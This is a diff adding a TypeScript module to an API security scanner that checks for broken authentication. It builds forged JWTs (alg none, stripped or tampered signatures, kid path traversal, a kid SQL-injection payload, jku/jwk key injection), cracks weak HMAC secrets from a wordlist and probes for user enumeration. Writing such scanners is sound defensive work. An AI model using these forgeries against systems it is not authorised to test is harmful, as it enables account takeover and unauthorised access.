@@ -1,0 +1,322 @@
+// API2 checkers: operations answering without (valid) credentials, JWT forgeries, weak HMAC
+// secrets, user enumeration through different login / reset answers.
+
+import { createHmac, timingSafeEqual } from 'node:crypto';
+import { exportJWK, generateKeyPair, SignJWT } from 'jose';
+import type { SpecOperation } from '../../model/index.js';
+import { denied, isSecured, ok, parseJson, type ScanContext } from '../context.js';
+import { credentialFields, hasPathParams, isLoginOp, isResetOp, resetField } from '../ops.js';
+import type { Identity, ScanExchange, ScanTest } from '../types.js';
+import { JWT_WORDLIST } from './wordlist.js';
+
+const b64u = (v: string | Buffer) => Buffer.from(v).toString('base64url');
+
+function splitJwt(
+  value: string,
+): { header: Record<string, unknown>; payload: Record<string, unknown>; parts: string[] } | undefined {
+  const token = value.replace(/^bearer\s+/i, '').trim();
+  const parts = token.split('.');
+  if (parts.length !== 3) return undefined;
+  try {
+    const header = JSON.parse(Buffer.from(parts[0]!, 'base64url').toString('utf8')) as Record<
+      string,
+      unknown
+    >;
+    const payload = JSON.parse(Buffer.from(parts[1]!, 'base64url').toString('utf8')) as Record<
+      string,
+      unknown
+    >;
+    return { header, payload, parts };
+  } catch {
+    return undefined;
+  }
+}
+
+function hs256(
+  header: Record<string, unknown>,
+  payload: Record<string, unknown>,
+  key: string | Buffer,
+): string {
+  const signing = `${b64u(JSON.stringify(header))}.${b64u(JSON.stringify(payload))}`;
+  return `${signing}.${createHmac('sha256', key).update(signing).digest('base64url')}`;
+}
+
+/** The first identity whose credential is a JWT. */
+function jwtIdentity(
+  ctx: ScanContext,
+): { identity: Identity; jwt: NonNullable<ReturnType<typeof splitJwt>> } | undefined {
+  for (const identity of [...ctx.users, ...ctx.identities]) {
+    const jwt = splitJwt(identity.value);
+    if (jwt) return { identity, jwt };
+  }
+  return undefined;
+}
+
+/** Secured, safe, parameter-resolvable operations whose answer as the identity is 2xx and whose
+ *  answer to a garbage credential is a denial: the only places an accepted forgery means anything. */
+async function guardedOps(
+  ctx: ScanContext,
+  identity: Identity,
+): Promise<Array<{ op: SpecOperation; owner: ScanExchange; garbage: ScanExchange }>> {
+  const out: Array<{ op: SpecOperation; owner: ScanExchange; garbage: ScanExchange }> = [];
+  for (const op of ctx.ops((o) => o.method === 'GET' && isSecured(o))) {
+    const req = ctx.sampleRequest(op, identity);
+    if (!req) continue;
+    const owner = await ctx.send({ ...req, note: 'as the identity' });
+    if (!ok(owner)) continue;
+    const garbage = await ctx.send({
+      ...req,
+      headers: { ...req.headers, [identity.header]: `Bearer ${ctx.rng.marker('invalid')}` },
+      as: 'garbage token',
+      note: 'control: garbage token',
+    });
+    if (ctx.plan || denied(garbage)) out.push({ op, owner, garbage: garbage! });
+  }
+  return out;
+}
+
+/** API2: a secured operation answers 2xx with no credential, or with an invalid one. */
+export async function authRequired(ctx: ScanContext, test: ScanTest): Promise<void> {
+  const variant = String(test.options['credential'] ?? 'none');
+  for (const op of ctx.ops((o) => o.method === 'GET' && isSecured(o))) {
+    const identity = ctx.defaultIdentity(op);
+    const req = ctx.sampleRequest(op, identity);
+    if (!req || !identity) continue;
+    const headers = { ...req.headers };
+    delete headers[identity.header];
+    let label = 'no credentials';
+    if (variant === 'random')
+      headers[identity.header] = `Bearer ${ctx.rng.marker('tok')}${ctx.rng.marker('')}`;
+    else if (variant === 'empty') headers[identity.header] = 'Bearer ';
+    else if (variant === 'basic')
+      headers[identity.header] = `Basic ${b64u(`${ctx.rng.marker('u')}:${ctx.rng.marker('p')}`)}`;
+    if (variant !== 'none') label = `${variant} credential`;
+    const probe = await ctx.send({ ...req, headers, as: '', note: label });
+    if (!ok(probe)) continue;
+    const legit = await ctx.send({ ...req, note: 'control: as the identity' });
+    if (!ok(legit)) continue;
+    // A different answer for the anonymous call (a public teaser) is not the protected resource.
+    if (!similarBodies(probe.response.body, legit.response.body)) continue;
+    ctx.report(test, {
+      op,
+      proof: [probe, legit],
+      control: `the spec declares security for ${op.method} ${op.path}; the answer with ${label} matches the identity's answer`,
+      detail: `${op.method} ${op.path} answered ${probe.response.status} with ${label}.`,
+      confidence: 0.9,
+    });
+  }
+}
+
+/** API2: forged JWTs (alg none, stripped/tampered signature, kid/jku/jwk tricks, expired) accepted. */
+export async function jwtForgery(ctx: ScanContext, test: ScanTest): Promise<void> {
+  const found = jwtIdentity(ctx);
+  if (!found) return;
+  const { identity, jwt } = found;
+  const attack = String(test.options['attack']);
+  const claims = { ...jwt.payload };
+  let token: string | undefined;
+  switch (attack) {
+    case 'alg-none': {
+      const alg = String(test.options['alg'] ?? 'none');
+      token = `${b64u(JSON.stringify({ ...jwt.header, alg }))}.${b64u(JSON.stringify(claims))}.`;
+      break;
+    }
+    case 'strip-signature':
+      token = `${jwt.parts[0]}.${jwt.parts[1]}.`;
+      break;
+    case 'tamper': {
+      // Same header and signature, different claims: only an unverified signature accepts it.
+      claims['mamori'] = ctx.rng.marker('t');
+      token = `${jwt.parts[0]}.${b64u(JSON.stringify(claims))}.${jwt.parts[2]}`;
+      break;
+    }
+    case 'expired': {
+      if (!ctx.crackedSecret) return; // needs a key the server trusts: chained on jwt-weak-secret
+      const now = Math.floor(Date.now() / 1000);
+      token = hs256(
+        { ...jwt.header, alg: 'HS256' },
+        { ...claims, iat: now - 7200, exp: now - 3600 },
+        ctx.crackedSecret,
+      );
+      break;
+    }
+    case 'kid-traversal':
+      token = hs256(
+        { alg: 'HS256', typ: 'JWT', kid: '../../../../../../../../dev/null' },
+        claims,
+        Buffer.alloc(0),
+      );
+      break;
+    case 'kid-sqli': {
+      const key = ctx.rng.marker('k');
+      token = hs256(
+        { alg: 'HS256', typ: 'JWT', kid: `${ctx.rng.marker('x')}' UNION SELECT '${key}' -- ` },
+        claims,
+        key,
+      );
+      break;
+    }
+    case 'jku':
+    case 'jwk': {
+      if (attack === 'jku' && !ctx.callback) return;
+      const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true });
+      const jwk = { ...(await exportJWK(publicKey)), kid: ctx.rng.marker('kid'), alg: 'RS256', use: 'sig' };
+      const header: Record<string, unknown> = { alg: 'RS256', typ: 'JWT', kid: jwk.kid };
+      let jkuToken = '';
+      if (attack === 'jku') {
+        jkuToken = ctx.rng.marker('jwks');
+        header['jku'] = ctx.callback!.serve(jkuToken, JSON.stringify({ keys: [jwk] }));
+      } else header['jwk'] = jwk;
+      token = await new SignJWT(claims).setProtectedHeader(header as { alg: string }).sign(privateKey);
+      break;
+    }
+    default:
+      throw new Error(`jwt-forgery: unknown attack ${attack}`);
+  }
+  ctx.masker.addSecret(token);
+  for (const { op, owner, garbage } of await guardedOps(ctx, identity)) {
+    const req = ctx.sampleRequest(op, identity)!;
+    const forged = await ctx.send({
+      ...req,
+      headers: { ...req.headers, [identity.header]: `Bearer ${token}` },
+      as: `forged JWT (${attack})`,
+      note: `forged JWT: ${attack}`,
+    });
+    if (!ok(forged) || !similarBodies(forged.response.body, owner.response.body)) continue;
+    ctx.report(test, {
+      op,
+      proof: [owner, garbage, forged],
+      control: `a garbage token got ${garbage.response.status} on the same request, so the operation does check tokens; the forged token got the identity's answer`,
+      detail: `A JWT forged with "${attack}" was accepted by ${op.method} ${op.path}.`,
+      confidence: 0.95,
+    });
+  }
+}
+
+/** API2: the identity's HS256 token is signed with a secret from a wordlist (proved offline by
+ *  recomputing its signature; no request needed, none sent). */
+export async function jwtWeakSecret(ctx: ScanContext, test: ScanTest): Promise<void> {
+  const found = jwtIdentity(ctx);
+  if (!found || !/^HS(256|384|512)$/.test(String(found.jwt.header['alg']))) return;
+  const alg = `sha${String(found.jwt.header['alg']).slice(2)}`;
+  const signing = `${found.jwt.parts[0]}.${found.jwt.parts[1]}`;
+  const sig = Buffer.from(found.jwt.parts[2]!, 'base64url');
+  for (const secret of JWT_WORDLIST) {
+    const mac = createHmac(alg, secret).update(signing).digest();
+    if (mac.length === sig.length && timingSafeEqual(mac, sig)) {
+      ctx.crackedSecret = secret;
+      ctx.masker.addSecret(secret);
+      const op = ctx.ops((o) => o.method === 'GET' && isSecured(o) && !hasPathParams(o))[0];
+      const req = op ? ctx.sampleRequest(op, found.identity) : undefined;
+      const forgedToken = hs256(
+        found.jwt.header,
+        { ...found.jwt.payload, mamori: ctx.rng.marker('w') },
+        secret,
+      );
+      ctx.masker.addSecret(forgedToken);
+      const confirm = req
+        ? await ctx.send({
+            ...req,
+            headers: { ...req.headers, [found.identity.header]: `Bearer ${forgedToken}` },
+            as: 'token signed with the recovered secret',
+          })
+        : undefined;
+      ctx.report(test, {
+        ...(op ? { op } : {}),
+        where: `identity ${found.identity.name}`,
+        proof: confirm ? [confirm] : [],
+        control: `HMAC-${alg.toUpperCase()} of the token's header.payload with the recovered secret equals its signature (offline proof)${ok(confirm) ? '; a token signed with it was accepted' : ''}`,
+        detail: `The ${String(found.jwt.header['alg'])} signing secret of ${found.identity.name}'s token is a common word (${secret.length} characters, masked).`,
+        confidence: 1,
+      });
+      return;
+    }
+  }
+}
+
+/** API2: login or reset answers differ between an existing and an unknown account. */
+export async function userEnumeration(ctx: ScanContext, test: ScanTest): Promise<void> {
+  const flow = String(test.options['flow'] ?? 'login');
+  const known = knownAccounts(ctx);
+  for (const op of ctx.ops((o) => (flow === 'login' ? isLoginOp(o) : isResetOp(o)))) {
+    const fields: { user?: string | undefined; pass?: string | undefined } =
+      flow === 'login' ? credentialFields(op) : { user: resetField(op) };
+    if (!fields.user) continue;
+    const userField = fields.user;
+    const account = known.find((k) => (/mail/i.test(userField) ? k.includes('@') : !k.includes('@')));
+    if (!account) continue;
+    const body = (user: string) => {
+      const b: Record<string, unknown> = {
+        ...((ctx.sampleBody(op) as Record<string, unknown>) ?? {}),
+        [userField]: user,
+      };
+      if (fields.pass) b[fields.pass] = `Wrong-${ctx.rng.marker('pw')}`;
+      return JSON.stringify(b);
+    };
+    const unknownUser = (/mail/i.test(userField) ? (s: string) => `${s}@example.invalid` : (s: string) => s)(
+      ctx.rng.marker('nouser'),
+    );
+    const unknownUser2 = (/mail/i.test(userField) ? (s: string) => `${s}@example.invalid` : (s: string) => s)(
+      ctx.rng.marker('nouser'),
+    );
+    const send = (user: string, note: string) =>
+      ctx.send({ method: op.method, path: ctx.fullPath(op.path), body: body(user), op, as: '', note });
+    const a = await send(account, 'existing account, wrong secret');
+    const b = await send(unknownUser, 'unknown account');
+    const c = await send(unknownUser2, 'control: another unknown account');
+    if (!a || !b || !c || a.response.status === 429 || b.response.status === 429 || c.response.status === 429)
+      continue;
+    const norm = (ex: ScanExchange) =>
+      `${ex.response.status} ${normalise(ex.response.body, [account, unknownUser, unknownUser2])}`;
+    if (norm(b) !== norm(c)) continue; // the answer to unknown accounts is not even stable
+    if (norm(a) === norm(b)) continue;
+    ctx.report(test, {
+      op,
+      proof: [a, b, c],
+      control:
+        'two different unknown accounts got the identical answer, so the difference comes from the account existing',
+      detail: `${op.method} ${op.path} answers ${a.response.status} for an existing account and ${b.response.status} for an unknown one, with different messages.`,
+      confidence: 0.9,
+    });
+  }
+}
+
+function knownAccounts(ctx: ScanContext): string[] {
+  const out: string[] = [];
+  for (const identity of ctx.identities) {
+    const jwt = splitJwt(identity.value);
+    const profile = ctx.profiles.get(identity.name) ?? {};
+    for (const v of [
+      profile['username'],
+      profile['email'],
+      profile['login'],
+      jwt?.payload['username'],
+      jwt?.payload['email'],
+      jwt?.payload['sub'],
+    ]) {
+      if (typeof v === 'string' && v && !out.includes(v)) out.push(v);
+    }
+  }
+  return out;
+}
+
+function normalise(body: string, values: string[]): string {
+  let out = body;
+  for (const v of values) out = out.split(v).join('<v>');
+  return out.replace(/\d{4}-\d\d-\d\dT[\d:.]+Z?/g, '<t>').replace(/[0-9a-f]{16,}/gi, '<h>');
+}
+
+/** Same resource: equal bodies, or JSON with the same keys and id. */
+export function similarBodies(a: string, b: string): boolean {
+  if (a === b) return true;
+  const ja = parseJson(a);
+  const jb = parseJson(b);
+  if (ja && jb && typeof ja === 'object' && typeof jb === 'object') {
+    const ka = Object.keys(ja).sort().join();
+    const kb = Object.keys(jb).sort().join();
+    if (ka !== kb) return false;
+    const ia = (ja as Record<string, unknown>)['id'];
+    return ia === (jb as Record<string, unknown>)['id'];
+  }
+  return Math.abs(a.length - b.length) <= Math.max(16, b.length * 0.1);
+}
